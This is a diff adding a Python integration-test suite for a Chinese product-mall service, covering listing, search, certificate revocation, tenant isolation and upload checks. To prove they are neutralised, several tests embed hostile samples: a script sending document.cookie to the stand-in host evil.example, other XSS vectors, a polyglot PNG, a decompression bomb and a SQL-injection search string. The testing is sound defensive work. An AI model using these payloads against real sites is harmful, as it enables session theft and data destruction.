@@ -1,0 +1,524 @@
+"""The issue's Done-when list, against the real services: promotion material, 上架/下架, the public
+catalogue and Chinese search, revocation, hostile uploads and rich text, tenancy, bad input."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import uuid
+
+import aio_pika
+from kit.testing.fixtures import wait_until
+from PIL import Image
+
+
+async def test_forerunner_and_star_products_are_listed_found_and_hidden(
+    client, deliver, enterprise, category, published, complete, emitted
+):
+    fridge_cat = await category("家用电冰箱", "家用电器")
+    coat_cat = await category("羽绒服", "纺织服装")
+    midea = await enterprise("美的集团股份有限公司", region="440606", brand="美的")
+    bosideng = await enterprise("波司登羽绒服装有限公司", region="320581", brand="波司登")
+    declaration_id, [fridge, _other] = await published(
+        midea, fridge_cat, ("美的冰箱", "BCD-520WKPZM"), ("美的冰箱", "BCD-406")
+    )
+    await deliver(
+        "certificate.issued",
+        {
+            "certificate_id": str(uuid.uuid4()),
+            "number": "LP-2023-0001",
+            "verify_code": "AbC123xyz",
+            "declaration_id": str(declaration_id),
+            "org_id": str(midea.org_id),
+        },
+        producer="certificate",
+    )
+    coat = uuid.uuid4()
+    await deliver(
+        "star_product.declared",
+        {
+            "star_product_id": str(coat),
+            "org_id": str(bosideng.org_id),
+            "enterprise_name": bosideng.name,
+            "product_id": str(coat_cat),
+            "product_name": "羽绒服",
+            "field": "纺织服装",
+            "name": "极寒系列羽绒服",
+            "model": "B20145",
+            "star": 4,
+            "plan_version": 2,
+            "results": [
+                {"code": "E1", "name": "充绒量", "unit": "g", "value": "220", "star": 4, "passed": True}
+            ],
+        },
+        producer="declaration",
+    )
+
+    # The enterprise sees its eligible models with what is missing, in Chinese.
+    r = await client.get("/api/mall/promotions", headers=midea.headers)
+    assert r.status_code == 200
+    assert {i["model_id"] for i in r.json()["items"]} == {str(fridge), str(_other)}
+    item = next(i for i in r.json()["items"] if i["model_id"] == str(fridge))
+    assert [m["label"] for m in item["missing"]] == ["产品介绍", "产品图片（至少 1 张）", "品牌信息"]
+
+    # Listing incomplete material is refused with the missing items.
+    r = await client.post(f"/api/mall/promotions/{fridge}/list", headers=midea.headers)
+    assert r.status_code == 409
+    assert r.json()["error"]["code"] == "promotion_incomplete"
+    assert "产品介绍" in r.json()["error"]["message"] and "品牌信息" in r.json()["error"]["message"]
+    assert await emitted("mall.promotion_completed", model_id=fridge) == []
+
+    await complete(midea, fridge, "<p>美的一级能效冰箱，静音 36 分贝。</p>")
+    await complete(bosideng, coat, "<p>极寒系列，充绒量 220 克。</p>")
+    # Completion is announced once per model, with what the certificate service needs for the label.
+    [done] = await emitted("mall.promotion_completed", model_id=coat)
+    assert done["source"] == "star" and done["star"] == 4 and done["star_product_id"] == str(coat)
+    await client.put(
+        f"/api/mall/promotions/{coat}", json={"introduction": "<p>改过的介绍</p>"}, headers=bosideng.headers
+    )
+    assert len(await emitted("mall.promotion_completed", model_id=coat)) == 1
+
+    # Not listed yet: the public mall does not show them, not even by id.
+    assert (await client.get(f"/api/mall/products/{fridge}")).status_code == 404
+    r = await client.get("/api/mall/products", params={"product_id": str(fridge_cat)})
+    assert r.json()["total"] == 0
+
+    for ent, model in ((midea, fridge), (bosideng, coat)):
+        r = await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)
+        assert r.status_code == 200, r.text
+        assert r.json()["status"] == "listed" and r.json()["status_label"] == "已上架"
+    assert len(await emitted("mall.product_listed", model_id=fridge)) == 1
+
+    # Under its category (field and key-field product), with counts.
+    r = await client.get("/api/mall/categories")
+    fields = {f["field"]: f for f in r.json()}
+    assert any(p["product_id"] == str(fridge_cat) and p["count"] == 1 for p in fields["家用电器"]["products"])
+    assert any(p["product_id"] == str(coat_cat) and p["count"] == 1 for p in fields["纺织服装"]["products"])
+    r = await client.get("/api/mall/products", params={"product_id": str(fridge_cat)})
+    assert [i["id"] for i in r.json()["items"]] == [str(fridge)]
+    assert r.json()["items"][0]["star"] == 5 and r.json()["items"][0]["brand_name"] == "美的"
+
+    # Chinese keywords find them; filters narrow; other words do not match.
+    async def ids(**params) -> set[str]:
+        r = await client.get("/api/mall/products", params={"page_size": 100, **params})
+        assert r.status_code == 200, r.text
+        return {i["id"] for i in r.json()["items"]}
+
+    assert str(fridge) in await ids(q="冰箱")
+    assert str(fridge) in await ids(q="bcd-520")
+    assert str(coat) in await ids(q="羽绒")
+    assert str(coat) in await ids(q="极寒 波司登")
+    assert str(coat) not in await ids(q="冰箱")
+    assert str(fridge) not in await ids(q="冰箱 羽绒")
+    assert await ids(q="冰箱", star=4, product_id=str(fridge_cat)) == set()
+    assert await ids(star=4, product_id=str(coat_cat)) == {str(coat)}
+    assert await ids(region="320000", product_id=str(coat_cat)) == {str(coat)}
+    assert await ids(region="110000", product_id=str(coat_cat)) == set()
+    assert await ids(brand="波司登", product_id=str(coat_cat)) == {str(coat)}
+
+    # The product page: indicators, brand, pictures and the link to verify the certificate.
+    r = await client.get(f"/api/mall/products/{fridge}")
+    detail = r.json()
+    assert detail["certificate"] == {"verify_code": "AbC123xyz", "verify_url": "/verify/AbC123xyz"}
+    assert [i["name"] for i in detail["indicators"]] == ["能效指数", "噪声"]
+    assert detail["brand"]["name"] == "美的" and detail["enterprise_name"] == midea.name
+    assert detail["standard_no"] == "Q/MDB 102-2023" and len(detail["pictures"]) == 1
+    r = await client.get(f"/api/mall/products/{coat}")
+    assert r.json()["indicators"][0]["value"] == "220" and r.json()["certificate"] is None
+
+    # 下架 hides the star product again.
+    r = await client.post(f"/api/mall/promotions/{coat}/unlist", headers=bosideng.headers)
+    assert r.json()["status"] == "unlisted"
+    assert str(coat) not in await ids(q="羽绒")
+    assert (await client.get(f"/api/mall/products/{coat}")).status_code == 404
+    [unlisted] = await emitted("mall.product_unlisted", model_id=coat)
+    assert unlisted["reason"] == "enterprise"
+
+    # Revoking the certificate takes the forerunner product off the mall and says why.
+    await deliver(
+        "certificate.revoked",
+        {
+            "certificate_id": str(uuid.uuid4()),
+            "declaration_id": str(declaration_id),
+            "org_id": str(midea.org_id),
+            "model_ids": [],
+            "reason": "企业标准已废止",
+        },
+        producer="certificate",
+    )
+    assert str(fridge) not in await ids(q="冰箱")
+    [unlisted] = await emitted("mall.product_unlisted", model_id=fridge)
+    assert unlisted["reason"] == "certificate_revoked" and "撤销" in unlisted["reason_label"]
+    assert unlisted["org_id"] == str(midea.org_id)
+    r = await client.post(f"/api/mall/promotions/{fridge}/list", headers=midea.headers)
+    assert r.status_code == 409 and r.json()["error"]["code"] == "certificate_not_valid"
+    r = await client.get(f"/api/mall/promotions/{fridge}", headers=midea.headers)
+    assert r.json()["status"] == "withdrawn"
+
+
+async def test_pictures_are_checked_by_content_and_capped_at_five(
+    picture, client, enterprise, category, published
+):
+    ent = await enterprise()
+    _, [model] = await published(ent, await category(), ("美的冰箱", "BCD-1"))
+    url = f"/api/mall/promotions/{model}/pictures"
+
+    # EXIF (camera, GPS) is gone after re-encoding; a thumbnail is made.
+    r = await client.post(
+        url, files={"file": ("a.jpg", picture(size=(800, 600), exif=True), "image/jpeg")}, headers=ent.headers
+    )
+    assert r.status_code == 201, r.text
+    first = r.json()
+    stored = await client.get(first["url"], headers=ent.headers)
+    assert stored.status_code == 200 and stored.headers["content-type"] == "image/jpeg"
+    assert b"SecretCam" not in stored.content
+    assert not Image.open(io.BytesIO(stored.content)).getexif()
+    thumb = await client.get(first["thumb_url"], headers=ent.headers)
+    assert Image.open(io.BytesIO(thumb.content)).size == (300, 225)
+
+    # A PDF renamed to .png is refused by its content.
+    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+    r = await client.post(url, files={"file": ("photo.png", pdf, "image/png")}, headers=ent.headers)
+    assert r.status_code == 415 and r.json()["error"]["code"] == "file_type_not_allowed"
+    assert "JPG" in r.json()["error"]["message"]
+
+    # 501 KB is over the seed's 500 KB.
+    big = picture()
+    big += b"\0" * (501 * 1024 - len(big))
+    r = await client.post(url, files={"file": ("big.jpg", big, "image/jpeg")}, headers=ent.headers)
+    assert r.status_code == 413 and r.json()["error"]["code"] == "file_too_large"
+    assert "500 KB" in r.json()["error"]["message"]
+
+    # A decompression bomb: a small file declaring 100 million pixels.
+    bomb = io.BytesIO()
+    Image.new("L", (10_000, 10_000)).save(bomb, format="PNG", optimize=True)
+    assert len(bomb.getvalue()) < 500 * 1024
+    r = await client.post(
+        url, files={"file": ("bomb.png", bomb.getvalue(), "image/png")}, headers=ent.headers
+    )
+    assert r.status_code == 422 and r.json()["error"]["code"] == "image_too_many_pixels"
+
+    # A PNG with a script appended (polyglot) is refused.
+    r = await client.post(
+        url,
+        files={"file": ("x.png", picture("PNG") + b"<script>alert(1)</script>", "image/png")},
+        headers=ent.headers,
+    )
+    assert r.status_code == 415
+
+    for n in range(4):
+        r = await client.post(
+            url,
+            files={"file": (f"{n}.png", picture("PNG", colour=(n * 40, 0, 0)), "image/png")},
+            headers=ent.headers,
+        )
+        assert r.status_code == 201, r.text
+    r = await client.post(url, files={"file": ("6.jpg", picture(), "image/jpeg")}, headers=ent.headers)
+    assert r.status_code == 409 and r.json()["error"]["code"] == "picture_limit_reached"
+    assert "最多 5 张" in r.json()["error"]["message"]
+
+    # Reorder: the cover follows the first; a wrong set of ids is refused.
+    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
+    ids = [p["id"] for p in promo["pictures"]]
+    assert len(ids) == 5 and promo["picture_count"] == 5
+    r = await client.put(f"{url}/order", json={"picture_ids": ids[::-1]}, headers=ent.headers)
+    assert r.status_code == 200 and [p["id"] for p in r.json()] == ids[::-1]
+    r = await client.put(f"{url}/order", json={"picture_ids": ids[:2]}, headers=ent.headers)
+    assert r.status_code == 422 and r.json()["error"]["code"] == "picture_order_invalid"
+
+    # Deleting frees a place; the deleted picture is gone.
+    r = await client.delete(f"{url}/{ids[0]}", headers=ent.headers)
+    assert r.status_code == 204
+    assert (await client.get(f"/api/mall/pictures/{ids[0]}", headers=ent.headers)).status_code == 404
+    r = await client.post(url, files={"file": ("6.jpg", picture(), "image/jpeg")}, headers=ent.headers)
+    assert r.status_code == 201
+
+
+async def test_script_in_the_introduction_is_neutralised(picture, client, enterprise, category, published):
+    ent = await enterprise()
+    _, [model] = await published(ent, await category(), ("美的冰箱", "BCD-2"))
+    r = await client.post(
+        f"/api/mall/promotions/{model}/pictures",
+        params={"kind": "intro"},
+        files={"file": ("in.png", picture("PNG"), "image/png")},
+        headers=ent.headers,
+    )
+    assert r.status_code == 201
+    own = r.json()["url"]
+    hostile = (
+        '<p onmouseover="alert(1)">好冰箱<script>document.location="https://evil.example/?"+document.cookie</script></p>'
+        '<img src=x onerror=alert(1)><a href="javascript:alert(1)">点击</a>'
+        f'<img src="{own}" alt="内部结构"><iframe src="https://evil.example"></iframe>'
+    )
+    r = await client.put(f"/api/mall/promotions/{model}", json={"introduction": hostile}, headers=ent.headers)
+    assert r.status_code == 200
+    intro = r.json()["introduction"]
+    for marker in ("<script", "onmouseover", "onerror", "javascript:", "<iframe", "evil.example"):
+        assert marker not in intro
+    assert "好冰箱" in intro and f'src="{own}"' in intro
+    assert all(m["code"] != "introduction" for m in r.json()["missing"])
+    # Intro pictures do not count as the required product pictures.
+    assert r.json()["picture_count"] == 0 and any(m["code"] == "pictures" for m in r.json()["missing"])
+
+    # An introduction that is nothing but script is empty, and so still missing.
+    r = await client.put(
+        f"/api/mall/promotions/{model}",
+        json={"introduction": "<script>alert(1)</script>"},
+        headers=ent.headers,
+    )
+    assert r.json()["introduction"] == "" and any(m["code"] == "introduction" for m in r.json()["missing"])
+
+
+async def test_another_enterprise_gets_404_everywhere(
+    picture, client, enterprise, category, published, complete, make_token
+):
+    a = await enterprise("甲公司")
+    b = await enterprise("乙公司")
+    _, [model] = await published(a, await category(), ("甲冰箱", "A-1"))
+    await client.post(
+        f"/api/mall/promotions/{model}/pictures",
+        files={"file": ("a.jpg", picture(), "image/jpeg")},
+        headers=a.headers,
+    )
+    promo = (await client.get(f"/api/mall/promotions/{model}", headers=a.headers)).json()
+    pic = promo["pictures"][0]["id"]
+
+    calls = [
+        ("GET", f"/api/mall/promotions/{model}", None),
+        ("PUT", f"/api/mall/promotions/{model}", {"introduction": "<p>乙改的</p>"}),
+        ("PUT", f"/api/mall/promotions/{model}/pictures/order", {"picture_ids": [pic]}),
+        ("DELETE", f"/api/mall/promotions/{model}/pictures/{pic}", None),
+        ("POST", f"/api/mall/promotions/{model}/list", None),
+        ("POST", f"/api/mall/promotions/{model}/unlist", None),
+    ]
+    for method, url, body in calls:
+        r = await client.request(method, url, json=body, headers=b.headers)
+        assert r.status_code == 404, (method, url, r.text)
+        assert r.json()["error"]["code"] == "product_not_found"
+    r = await client.post(
+        f"/api/mall/promotions/{model}/pictures",
+        files={"file": ("b.jpg", picture(), "image/jpeg")},
+        headers=b.headers,
+    )
+    assert r.status_code == 404
+    # An unlisted product's picture is only for its owner.
+    assert (await client.get(f"/api/mall/pictures/{pic}", headers=b.headers)).status_code == 404
+    assert (await client.get(f"/api/mall/pictures/{pic}")).status_code == 404
+    # A's material is untouched, and B cannot pick A's brand for its own product either.
+    after = (await client.get(f"/api/mall/promotions/{model}", headers=a.headers)).json()
+    assert after["introduction"] == "" and after["picture_count"] == 1
+    _, [b_model] = await published(b, await category(), ("乙冰箱", "B-1"))
+    r = await client.put(
+        f"/api/mall/promotions/{b_model}", json={"brand_id": str(a.brand_id)}, headers=b.headers
+    )
+    assert r.status_code == 422 and r.json()["error"]["code"] == "brand_not_found"
+    # Other roles may not edit promotion material; no token at all is 401.
+    agency = make_token("agency")
+    r = await client.get(f"/api/mall/promotions/{model}", headers={"Authorization": f"Bearer {agency}"})
+    assert r.status_code == 403
+    assert (await client.get(f"/api/mall/promotions/{model}")).status_code == 401
+
+
+async def test_public_pictures_have_caching_headers(client, enterprise, category, published, complete):
+    ent = await enterprise()
+    _, [model] = await published(ent, await category(), ("美的冰箱", "BCD-3"))
+    await complete(ent, model)
+    pic = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()["pictures"][0]
+    r = await client.get(pic["url"], headers=ent.headers)
+    assert r.headers["cache-control"] == "private, no-cache"
+    assert (await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)).status_code == 200
+    r = await client.get(pic["thumb_url"])
+    assert r.status_code == 200
+    assert r.headers["cache-control"].startswith("public, max-age=")
+    assert r.headers["x-content-type-options"] == "nosniff"
+    etag = r.headers["etag"]
+    again = await client.get(pic["thumb_url"], headers={"If-None-Match": etag})
+    assert again.status_code == 304 and again.content == b""
+
+
+async def test_listed_material_must_stay_complete_and_deleted_brand_unlists(
+    client, deliver, enterprise, category, published, complete, emitted
+):
+    ent = await enterprise()
+    _, [model] = await published(ent, await category(), ("美的冰箱", "BCD-4"))
+    await complete(ent, model)
+    await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)
+    pic = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()["pictures"][0]["id"]
+    r = await client.delete(f"/api/mall/promotions/{model}/pictures/{pic}", headers=ent.headers)
+    assert r.status_code == 409 and r.json()["error"]["code"] == "listed_material_incomplete"
+    r = await client.put(f"/api/mall/promotions/{model}", json={"introduction": ""}, headers=ent.headers)
+    assert r.status_code == 409 and "产品介绍" in r.json()["error"]["message"]
+    assert (await client.get(f"/api/mall/pictures/{pic}")).status_code == 200
+
+    await deliver(
+        "enterprise.brand_changed",
+        {"org_id": str(ent.org_id), "brand_id": str(ent.brand_id), "name": "美的", "deleted": True},
+    )
+    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
+    assert promo["status"] == "unlisted" and any(m["code"] == "brand" for m in promo["missing"])
+    assert promo["brands"] == []
+    [event] = await emitted("mall.product_unlisted", model_id=model)
+    assert event["reason"] == "brand_removed"
+
+
+async def test_appended_model_joins_its_declaration(client, deliver, enterprise, category, published):
+    ent = await enterprise()
+    cat = await category()
+    declaration_id, _ = await published(ent, cat, ("美的冰箱", "BCD-5"))
+    appended = uuid.uuid4()
+    await deliver(
+        "declaration.model_appended",
+        {
+            "declaration_id": str(declaration_id),
+            "org_id": str(ent.org_id),
+            "model": {
+                "model_id": str(appended),
+                "name": "美的冰箱",
+                "spec": "BCD-600",
+                "intro": "<p>新增型号</p><script>x()</script>",
+            },
+        },
+        producer="declaration",
+    )
+    promo = (await client.get(f"/api/mall/promotions/{appended}", headers=ent.headers)).json()
+    assert promo["source"] == "forerunner" and promo["star"] == 5 and promo["product_id"] == str(cat)
+    assert promo["standard_no"] == "Q/MDB 102-2023"
+    assert promo["introduction"] == "<p>新增型号</p>"
+
+
+async def test_redelivered_event_has_no_second_effect(
+    runtime, deliver, enterprise, category, published, client
+):
+    ent = await enterprise()
+    declaration_id, [model] = await published(ent, await category(), ("美的冰箱", "BCD-7"))
+    from kit.bus import Envelope
+
+    envelope = Envelope(
+        type="certificate.expired",
+        producer="certificate",
+        payload={
+            "certificate_id": str(uuid.uuid4()),
+            "declaration_id": str(declaration_id),
+            "org_id": str(ent.org_id),
+            "model_ids": [str(model)],
+            "reason": "有效期届满",
+        },
+    )
+    assert await runtime.consumer.handle(envelope)
+    assert not await runtime.consumer.handle(envelope)
+    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
+    assert promo["status"] == "withdrawn" and promo["withdrawn_reason"] == "certificate_expired"
+
+
+async def test_events_arrive_through_the_bus(client, runtime, mall_settings, make_token):
+    """The mall's queue is bound to what it consumes: a star product published on the exchange shows up."""
+    await wait_until(lambda: runtime.consumer is not None and runtime.consumer._tag is not None, timeout=15)
+    org_id, model_id = uuid.uuid4(), uuid.uuid4()
+    connection = await aio_pika.connect_robust(mall_settings.amqp_url)
+    async with connection:
+        channel = await connection.channel()
+        exchange = await channel.declare_exchange(
+            mall_settings.exchange_name, aio_pika.ExchangeType.TOPIC, durable=True
+        )
+        from kit.bus import Envelope
+
+        envelope = Envelope(
+            type="star_product.declared",
+            producer="declaration",
+            payload={
+                "star_product_id": str(model_id),
+                "org_id": str(org_id),
+                "enterprise_name": "丙公司",
+                "product_name": "羽绒服",
+                "field": "纺织服装",
+                "name": "轻薄羽绒服",
+                "model": "C-1",
+                "star": 3,
+            },
+        )
+        await exchange.publish(
+            aio_pika.Message(envelope.model_dump_json().encode()), routing_key=envelope.routing_key
+        )
+    headers = {"Authorization": f"Bearer {make_token('enterprise', org_id=org_id)}"}
+
+    async def arrived() -> bool:
+        return (await client.get(f"/api/mall/promotions/{model_id}", headers=headers)).status_code == 200
+
+    await wait_until(arrived, timeout=15)
+    body = (await client.get(f"/api/mall/promotions/{model_id}", headers=headers)).json()
+    assert body["star"] == 3 and body["source_label"] == "自我声明星级产品"
+
+
+async def test_bad_input_is_a_clear_4xx_never_500(picture, client, enterprise, category, published):
+    ent = await enterprise()
+    _, [model] = await published(ent, await category(), ("美的冰箱", "BCD-8"))
+    cases = [
+        ("GET", "/api/mall/products", {"params": {"star": 9}}, 422),
+        ("GET", "/api/mall/products", {"params": {"star": "五"}}, 422),
+        ("GET", "/api/mall/products", {"params": {"page_size": 1000}}, 422),
+        ("GET", "/api/mall/products", {"params": {"page": 0}}, 422),
+        ("GET", "/api/mall/products", {"params": {"sort": "price"}}, 422),
+        ("GET", "/api/mall/products", {"params": {"region": "北京"}}, 422),
+        ("GET", "/api/mall/products", {"params": {"q": "冰" * 51}}, 422),
+        ("GET", "/api/mall/products", {"params": {"product_id": "not-a-uuid"}}, 422),
+        ("GET", "/api/mall/products/not-a-uuid", {}, 422),
+        ("GET", f"/api/mall/products/{uuid.uuid4()}", {}, 404),
+        ("GET", f"/api/mall/pictures/{uuid.uuid4()}", {"params": {"size": "huge"}}, 422),
+        ("GET", f"/api/mall/pictures/{uuid.uuid4()}", {}, 404),
+        ("GET", "/api/mall/promotions", {"params": {"status": "sold"}, "headers": ent.headers}, 422),
+        ("PUT", f"/api/mall/promotions/{model}", {"json": {"status": "listed"}, "headers": ent.headers}, 422),
+        ("PUT", f"/api/mall/promotions/{model}", {"json": {"brand_id": "x"}, "headers": ent.headers}, 422),
+        ("PUT", f"/api/mall/promotions/{model}", {"json": {"introduction": 5}, "headers": ent.headers}, 422),
+        ("PUT", f"/api/mall/promotions/{model}", {"content": b"{not json", "headers": ent.headers}, 422),
+        (
+            "PUT",
+            f"/api/mall/promotions/{model}",
+            {"json": {"introduction": "<p>长</p>" * 10_000}, "headers": ent.headers},
+            422,
+        ),
+        (
+            "PUT",
+            f"/api/mall/promotions/{model}/pictures/order",
+            {"json": {"picture_ids": "x"}, "headers": ent.headers},
+            422,
+        ),
+        ("POST", f"/api/mall/promotions/{model}/pictures", {"headers": ent.headers}, 422),
+        (
+            "POST",
+            f"/api/mall/promotions/{model}/pictures",
+            {"files": {"file": ("e.jpg", b"", "image/jpeg")}, "headers": ent.headers},
+            422,
+        ),
+        (
+            "POST",
+            f"/api/mall/promotions/{model}/pictures",
+            {"files": {"file": ("t.jpg", b"\xff\xd8\xff\xe0broken", "image/jpeg")}, "headers": ent.headers},
+            422,
+        ),
+        (
+            "POST",
+            f"/api/mall/promotions/{model}/pictures",
+            {
+                "params": {"kind": "banner"},
+                "files": {"file": ("a.jpg", picture(), "image/jpeg")},
+                "headers": ent.headers,
+            },
+            422,
+        ),
+        ("GET", "/api/mall/promotions", {"headers": {"Authorization": "Bearer nonsense"}}, 401),
+    ]
+    for method, url, kw, expected in cases:
+        r = await client.request(method, url, **kw)
+        assert r.status_code == expected, (
+            method,
+            url,
+            kw.get("params") or kw.get("json"),
+            r.status_code,
+            r.text[:300],
+        )
+        assert r.json()["error"]["message"], r.text
+    # Search input with LIKE wildcards and quotes is literal text, not a pattern or SQL.
+    for q in ("%", "_", "'; DROP TABLE products; --", "\\", "冰箱%"):
+        r = await client.get("/api/mall/products", params={"q": q})
+        assert r.status_code == 200 and r.json()["total"] == 0, q
+    await asyncio.sleep(0)
